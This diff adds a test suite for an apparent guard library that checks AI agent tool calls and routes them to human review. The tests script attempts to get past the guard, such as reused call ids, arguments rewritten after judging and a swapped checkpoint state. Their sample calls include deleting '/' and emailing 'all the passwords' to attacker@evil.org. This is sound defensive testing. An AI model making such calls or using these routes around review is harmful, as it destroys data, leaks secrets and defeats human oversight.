@@ -1,0 +1,383 @@
+"""A decision, or a reviewer's answer, lets through only the exact call it judged: on every
+path a tool call can take, a reused id, another thread, a duplicate id, arguments rewritten
+after judging or a second call after an approval is judged (and reviewed) again, and after a
+resume every allowed call runs exactly once. Each test here ran a tool unjudged before the
+decisions were bound to their calls."""
+
+from __future__ import annotations
+
+from typing import Any, Callable
+
+import pytest
+from langchain.agents import create_agent
+from langchain.agents.middleware import AgentMiddleware, AgentState
+from langchain.agents.middleware.types import ExtendedModelResponse, ModelResponse
+from langchain_core.messages import AIMessage, ToolMessage
+from langgraph.checkpoint.memory import InMemorySaver
+from langgraph.graph import START, MessagesState, StateGraph
+from langgraph.prebuilt import ToolNode, tools_condition
+from langgraph.types import Command
+from opentelemetry.sdk.trace import TracerProvider
+from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
+from typing_extensions import NotRequired
+
+from soda_guard import Guard, read_audit
+from soda_guard.integrations.langchain import SodaGuardCallbackHandler, SodaGuardMiddleware, ToolCallBlocked
+from soda_guard.integrations.langgraph import GuardState, SodaGuardToolWrapper, guard_node
+from soda_guard.integrations.testing import scripted_model, tool_calls_message
+from soda_guard.tracing import OpenTelemetrySink
+
+from integration_helpers import MemoryTracer, make_guard, make_tools
+
+USER = {"messages": [{"role": "user", "content": "Tidy up."}]}
+READ = ("read_file", {"path": "notes.txt"})
+DELETE = ("delete_file", {"path": "/"})
+
+
+def turn(*calls: tuple[str, dict[str, Any]], ids: list[str]) -> AIMessage:
+    """A model turn with the ids chosen here, as a provider that reuses ids would send."""
+    return AIMessage(
+        content="", tool_calls=[{"name": n, "args": a, "id": i, "type": "tool_call"} for i, (n, a) in zip(ids, calls)]
+    )
+
+
+def middleware_agent(guard: Guard, replies: list[Any], ran: list[Any], *, outer: list[Any] | None = None) -> Any:
+    return create_agent(
+        scripted_model(replies), make_tools(ran), middleware=[*(outer or []), SodaGuardMiddleware(guard)],
+        checkpointer=InMemorySaver(),
+    )
+
+
+def node_graph(guard: Guard, replies: list[Any], ran: list[Any], *, wrap: Callable[[Any], Any] | None = None) -> Any:
+    model = scripted_model(replies)
+    wrapper = SodaGuardToolWrapper(guard)
+    outer = wrap(wrapper) if wrap else None
+    builder = StateGraph(GuardState)
+    builder.add_node("agent", lambda state: {"messages": [model.invoke(state["messages"])]})
+    builder.add_node("guard", guard_node(guard))
+    builder.add_node(
+        "tools",
+        ToolNode(make_tools(ran), wrap_tool_call=outer or wrapper, awrap_tool_call=(outer.awrap if outer else wrapper.awrap)),
+    )
+    builder.add_edge(START, "agent")
+    builder.add_edge("agent", "guard")
+    builder.add_edge("tools", "agent")
+    return builder.compile(checkpointer=InMemorySaver())
+
+
+def wrapper_graph(wrapper: SodaGuardToolWrapper, replies: list[Any], ran: list[Any]) -> Any:
+    """A plain ToolNode behind `tools_condition`, guarded by the wrapper alone."""
+    model = scripted_model(replies)
+    builder = StateGraph(MessagesState)
+    builder.add_node("agent", lambda state: {"messages": [model.invoke(state["messages"])]})
+    builder.add_node("tools", ToolNode(make_tools(ran), wrap_tool_call=wrapper, awrap_tool_call=wrapper.awrap))
+    builder.add_edge(START, "agent")
+    builder.add_conditional_edges("agent", tools_condition)
+    builder.add_edge("tools", "agent")
+    return builder.compile(checkpointer=InMemorySaver())
+
+
+def callback_loop(handler: SodaGuardCallbackHandler, replies: list[Any], ran: list[Any]) -> None:
+    model = scripted_model(replies)
+    tools = {tool.name: tool for tool in make_tools(ran)}
+    config = {"callbacks": [handler]}
+    messages: list[Any] = []
+    while True:
+        reply = model.invoke(messages or "Tidy up.", config)
+        messages.append(reply)
+        if not reply.tool_calls:
+            return
+        for call in reply.tool_calls:
+            try:
+                messages.append(tools[call["name"]].invoke(call, config))
+            except ToolCallBlocked as blocked:
+                messages.append(ToolMessage(str(blocked), tool_call_id=call["id"], status="error"))
+
+
+def config(thread: str = "t") -> dict[str, Any]:
+    return {"configurable": {"thread_id": thread}}
+
+
+REUSED = [turn(READ, ids=["call_0"]), turn(DELETE, ids=["call_0"]), "done"]
+
+PATHS = ["middleware", "middleware-async", "guard_node", "guard_node-async", "wrapper", "wrapper-async", "callback"]
+
+
+def graph_for(path: str, guard: Guard, replies: list[Any], ran: list[Any]) -> Any:
+    """The agent for one path: "middleware", "guard_node" or "wrapper" (an "-async" suffix
+    only says how the test drives it)."""
+    if path.startswith("middleware"):
+        return middleware_agent(guard, replies, ran)
+    if path.startswith("guard_node"):
+        return node_graph(guard, replies, ran)
+    return wrapper_graph(SodaGuardToolWrapper(guard), replies, ran)
+
+
+async def drive(path: str, graph: Any, value: Any) -> Any:
+    return await graph.ainvoke(value, config()) if path.endswith("async") else graph.invoke(value, config())
+
+
+async def run_path(path: str, guard: Guard, replies: list[Any], ran: list[Any]) -> None:
+    if path == "callback":
+        callback_loop(SodaGuardCallbackHandler(guard, raise_error=True), replies, ran)
+        return
+    await drive(path, graph_for(path, guard, replies, ran), USER)
+
+
+@pytest.mark.parametrize("path", PATHS)
+async def test_an_id_reused_in_a_later_turn_is_judged_again(path: str) -> None:
+    guard, backend = make_guard()
+    ran: list[Any] = []
+    await run_path(path, guard, REUSED, ran)
+    assert ran == [READ]
+    assert len(backend.requests) == 2
+
+
+@pytest.mark.parametrize("path", PATHS)
+async def test_duplicate_ids_in_one_turn_are_refused_not_run_on_one_decision(path: str) -> None:
+    guard, backend = make_guard(unsafe=("nothing-is-unsafe",))
+    ran: list[Any] = []
+    await run_path(path, guard, [turn(READ, DELETE, ids=["dup", "dup"]), "done"], ran)
+    assert ran == []
+
+
+async def test_a_decision_in_one_thread_is_not_used_in_another() -> None:
+    guard, _ = make_guard()
+    wrapper = SodaGuardToolWrapper(guard)
+    ran: list[Any] = []
+    wrapper_graph(wrapper, [turn(READ, ids=["call_0"]), "done"], ran).invoke(USER, config("alice"))
+    bob = wrapper_graph(wrapper, [turn(DELETE, ids=["call_0"]), "done"], ran).invoke(USER, config("bob"))
+    assert ran == [READ]
+    refused = [m for m in bob["messages"] if isinstance(m, ToolMessage)]
+    assert refused[0].status == "error" and refused[0].response_metadata["soda_guard"]["action"] == "block"
+
+
+class NoteState(AgentState):
+    note: NotRequired[str]
+
+
+class Rewriter(AgentMiddleware):
+    """Outer middleware that changes a call's arguments after the turn was judged."""
+
+    def wrap_tool_call(self, request: Any, handler: Any) -> Any:
+        return handler(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}))
+
+    async def awrap_tool_call(self, request: Any, handler: Any) -> Any:
+        return await handler(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}))
+
+
+@pytest.mark.parametrize("mode", ["sync", "async"])
+async def test_arguments_rewritten_after_judging_are_judged_again_middleware(mode: str) -> None:
+    guard, backend = make_guard(unsafe=('"/"',))
+    ran: list[Any] = []
+    agent = middleware_agent(guard, [turn(("delete_file", {"path": "/tmp/x"}), ids=["c"]), "done"], ran, outer=[Rewriter()])
+    result = agent.invoke(USER, config()) if mode == "sync" else await agent.ainvoke(USER, config())
+    assert ran == []
+    [message] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
+    assert message.status == "error" and message.response_metadata["soda_guard"]["action"] == "block"
+    assert len(backend.requests) == 2
+
+
+def test_arguments_rewritten_after_the_guard_node_are_judged_again() -> None:
+    class Rewrite:
+        def __init__(self, inner: SodaGuardToolWrapper) -> None:
+            self.inner = inner
+
+        def __call__(self, request: Any, handler: Any) -> Any:
+            return self.inner(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}), handler)
+
+        async def awrap(self, request: Any, handler: Any) -> Any:
+            return await self.inner.awrap(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}), handler)
+
+    guard, _ = make_guard(unsafe=('"/"',))
+    ran: list[Any] = []
+    node_graph(guard, [turn(("delete_file", {"path": "/tmp/x"}), ids=["c"]), "done"], ran, wrap=Rewrite).invoke(USER, config())
+    assert ran == []
+
+
+def transfer_turns(second_args: dict[str, Any]) -> list[Any]:
+    return [turn(("send_email", {"to": "ok@x.org"}), ids=["call_0"]), turn(("send_email", second_args), ids=["call_0"]), "done"]
+
+
+@pytest.mark.parametrize("path", ["middleware", "guard_node", "wrapper"])
+def test_an_approval_is_not_reused_for_a_later_call_with_the_same_id(path: str) -> None:
+    guard, backend = make_guard(unsafe=("send_email",), defaults={"on_unsafe": "escalate"})
+    ran: list[Any] = []
+    graph = graph_for(path, guard, transfer_turns({"to": "attacker@evil.org", "body": "all the passwords"}), ran)
+    assert graph.invoke(USER, config())["__interrupt__"]
+    second = graph.invoke(Command(resume={"type": "approve"}), config())
+    assert ran == [("send_email", {"to": "ok@x.org", "body": ""})]
+    [pause] = second["__interrupt__"]
+    assert pause.value["action_requests"][0]["args"] == {"to": "attacker@evil.org", "body": "all the passwords"}
+    graph.invoke(Command(resume={"type": "reject", "message": "no"}), config())
+    assert ran == [("send_email", {"to": "ok@x.org", "body": ""})]
+
+
+@pytest.mark.parametrize("path", ["middleware", "middleware-async", "guard_node", "wrapper", "wrapper-async"])
+async def test_no_call_of_an_escalated_turn_runs_before_review_and_each_runs_once_after(path: str) -> None:
+    guard, backend = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"})
+    ran: list[Any] = []
+    replies = [turn(READ, DELETE, ("send_email", {"to": "a@x.org"}), ids=["c0", "c1", "c2"]), "done"]
+    graph = graph_for(path, guard, replies, ran)
+    first = await drive(path, graph, USER)
+    assert len(first["__interrupt__"]) == 1 and ran == []
+    result = await drive(path, graph, Command(resume={"decisions": [{"type": "approve"}]}))
+    assert sorted(ran, key=str) == sorted([READ, DELETE, ("send_email", {"to": "a@x.org", "body": ""})], key=str)
+    assert result["messages"][-1].content == "done"
+    assert len(backend.requests) == 3
+
+
+def test_one_interrupt_answers_every_escalated_call_of_the_turn_by_position() -> None:
+    guard, _ = make_guard(unsafe=("delete_file", "send_email"), defaults={"on_unsafe": "escalate"})
+    ran: list[Any] = []
+    agent = middleware_agent(guard, [turn(DELETE, ("send_email", {"to": "x@y.z"}), READ, ids=["a", "b", "c"]), "done"], ran)
+    [pause] = agent.invoke(USER, config())["__interrupt__"]
+    assert [a["name"] for a in pause.value["action_requests"]] == ["delete_file", "send_email"]
+    assert [c["action"] for c in pause.value["soda_guard"]["turn"]] == ["escalate", "escalate", "allow"]
+    wrong = agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
+    assert "2 call(s) but 1 decision(s)" in wrong["__interrupt__"][0].value["error"] and ran == []
+    result = agent.invoke(
+        Command(resume={"decisions": [{"type": "reject", "message": "keep it"}, {"type": "respond", "message": "sent (by hand)"}]}),
+        config(),
+    )
+    assert ran == [READ]
+    by_id = {m.tool_call_id: m for m in result["messages"] if isinstance(m, ToolMessage)}
+    assert by_id["a"].status == "error" and "keep it" in by_id["a"].content
+    assert by_id["b"].status == "success" and by_id["b"].content == "sent (by hand)"
+
+
+def test_an_edit_answer_uses_the_hitl_edited_action_shape_and_cannot_switch_tools() -> None:
+    guard, backend = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"})
+    ran: list[Any] = []
+    agent = middleware_agent(guard, [turn(DELETE, ids=["a"]), "done"], ran)
+    agent.invoke(USER, config())
+    switched = agent.invoke(
+        Command(resume={"decisions": [{"type": "edit", "edited_action": {"name": "read_file", "args": {"path": "/"}}}]}), config()
+    )
+    assert "cannot change the tool" in switched["__interrupt__"][0].value["error"] and ran == []
+    agent.invoke(
+        Command(resume={"decisions": [{"type": "edit", "edited_action": {"name": "delete_file", "args": {"path": "/tmp/junk"}}}]}),
+        config(),
+    )
+    assert ran == [("delete_file", {"path": "/tmp/junk"})]
+
+
+def test_reviews_are_audit_events_in_every_sink(tmp_path: Any) -> None:
+    exporter = InMemorySpanExporter()
+    provider = TracerProvider()
+    provider.add_span_processor(SimpleSpanProcessor(exporter))
+    audit = tmp_path / "audit.jsonl"
+    guard, _ = make_guard(
+        unsafe=('"/"',), defaults={"on_unsafe": "escalate"}, audit={"jsonl": str(audit)}, sinks=[OpenTelemetrySink(provider)]
+    )
+    tracer = MemoryTracer()
+    ran: list[Any] = []
+    agent = middleware_agent(guard, [turn(DELETE, ids=["a"]), "done"], ran)
+    agent.invoke(USER, {**config(), "callbacks": [tracer]})
+    agent.invoke(Command(resume={"type": "edit", "args": {"path": "/tmp/junk"}}), {**config(), "callbacks": [tracer]})
+    escalation, edit_judgment, review = list(read_audit(audit))
+    assert escalation.action.value == "escalate" and edit_judgment.tool_call.args == {"path": "/tmp/junk"}
+    assert review.rule == "review" and review.action.value == "allow"
+    assert review.review.type == "edit" and review.review.answers == escalation.decision_id
+    assert review.review.args == {"path": "/tmp/junk"} and review.review.edit_decision_id == edit_judgment.decision_id
+    assert review.tool_call.args == {"path": "/tmp/junk"}
+    spans = [dict(span.attributes) for span in exporter.get_finished_spans()]
+    assert spans[-1]["soda_guard.review.type"] == "edit" and spans[-1]["soda_guard.review.answers"] == escalation.decision_id
+    reviews = [run for run in tracer.runs_named("soda_guard") if "soda_guard:review" in run.tags]
+    assert [run.outputs["decisions"][0]["review"]["type"] for run in reviews] == ["edit"]
+
+
+def test_the_graph_state_holds_only_the_latest_turn() -> None:
+    guard, _ = make_guard()
+    ran: list[Any] = []
+    agent = middleware_agent(guard, [turn(READ, ids=["x0"]), turn(("send_email", {"to": "a@b.c"}), ids=["x1"]), "done"], ran)
+    result = agent.invoke(USER, config())
+    assert [record["call"]["id"] for record in result["soda_guard"]["records"]] == ["x1"]
+    first_turn = next(m for m in result["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "x0")
+    assert first_turn.response_metadata["soda_guard"]["action"] == "allow"
+
+
+def test_tool_calls_message_mints_unique_ids() -> None:
+    first, second = tool_calls_message(READ, DELETE), tool_calls_message(READ)
+    ids = [c["id"] for c in first.tool_calls + second.tool_calls]
+    assert len(set(ids)) == 3
+
+
+@pytest.mark.parametrize("path", ["middleware", "guard_node"])
+def test_an_answer_given_to_other_calls_is_not_used_after_the_state_changed(path: str) -> None:
+    """Paused on one email; while paused, someone with access to the checkpoint writes another
+    model turn (same call id, other arguments) through `update_state`, as the model step. The
+    approval was for the first email: the new call is asked about again, not run on it."""
+    guard, _ = make_guard(unsafe=("send_email",), defaults={"on_unsafe": "escalate"})
+    ran: list[Any] = []
+    graph = graph_for(path, guard, [turn(("send_email", {"to": "ok@x.org"}), ids=["same"]), "done"], ran)
+    assert graph.invoke(USER, config())["__interrupt__"]
+    swapped = turn(("send_email", {"to": "attacker@evil.org"}), ids=["same"])
+    graph.update_state(config(), {"messages": [swapped]}, as_node="model" if path == "middleware" else "agent")
+    again = graph.invoke(Command(resume={"type": "approve"}), config())
+    assert ran == []
+    [pause] = again["__interrupt__"]
+    assert "given to a question about other calls" in pause.value["error"]
+    assert pause.value["action_requests"][0]["args"] == {"to": "attacker@evil.org"}
+
+
+def test_hold_turn_false_runs_allowed_calls_first_and_asks_per_escalated_call() -> None:
+    guard, backend = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"}, review={"hold_turn": False})
+    ran: list[Any] = []
+    agent = middleware_agent(guard, [turn(READ, DELETE, ids=["r", "d"]), "done"], ran)
+    [pause] = agent.invoke(USER, config())["__interrupt__"]
+    assert ran == [READ] and [a["name"] for a in pause.value["action_requests"]] == ["delete_file"]
+    result = agent.invoke(Command(resume={"type": "approve"}), config())
+    assert ran == [READ, DELETE] and result["messages"][-1].content == "done"
+    assert len(backend.requests) == 2
+
+
+def test_an_inner_model_middleware_state_update_is_kept_and_the_turn_still_judged() -> None:
+    class Noting(AgentMiddleware):
+        state_schema = NoteState
+
+        def wrap_model_call(self, request: Any, handler: Any) -> Any:
+            response = handler(request)
+            response = response if isinstance(response, ModelResponse) else ModelResponse(result=[response])
+            return ExtendedModelResponse(model_response=response, command=Command(update={"note": "seen"}))
+
+    guard, backend = make_guard()
+    ran: list[Any] = []
+    agent = create_agent(
+        scripted_model([turn(DELETE, ids=["d"]), "done"]), make_tools(ran),
+        middleware=[SodaGuardMiddleware(guard), Noting()], checkpointer=InMemorySaver(),
+    )
+    result = agent.invoke(USER, config())
+    assert result["note"] == "seen" and ran == [] and len(backend.requests) == 1
+
+
+def test_an_approval_that_cannot_be_recorded_does_not_run_the_call() -> None:
+    class NoReviews:
+        def write(self, decisions: Any, *, deadline: float | None = None) -> None:
+            if any(decision.rule == "review" for decision in decisions):
+                raise OSError("disk full")
+
+    guard, _ = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"}, sinks=[NoReviews()])
+    ran: list[Any] = []
+    agent = middleware_agent(guard, [turn(DELETE, ids=["d"]), "done"], ran)
+    agent.invoke(USER, config())
+    result = agent.invoke(Command(resume={"type": "approve"}), config())
+    assert ran == []
+    [message] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
+    assert message.status == "error" and "audit sink unavailable" in message.content
+
+
+def test_callback_handler_judges_the_arguments_the_tool_actually_runs_with() -> None:
+    """A loop that changes the model's arguments before running the tool: the handler judges
+    what runs, not what the model asked for."""
+    guard, backend = make_guard(unsafe=('"/"',))
+    handler = SodaGuardCallbackHandler(guard)
+    ran: list[Any] = []
+    tools = {tool.name: tool for tool in make_tools(ran)}
+    model = scripted_model([turn(("delete_file", {"path": "/tmp/x"}), ids=["d"])])
+    reply = model.invoke("clean up", {"callbacks": [handler]})
+    call = {**reply.tool_calls[0], "args": {"path": "/"}}
+    with pytest.raises(ToolCallBlocked):
+        tools["delete_file"].invoke(call, {"callbacks": [handler]})
+    assert ran == [] and handler.decisions[-1].tool_call.args == {"path": "/"}
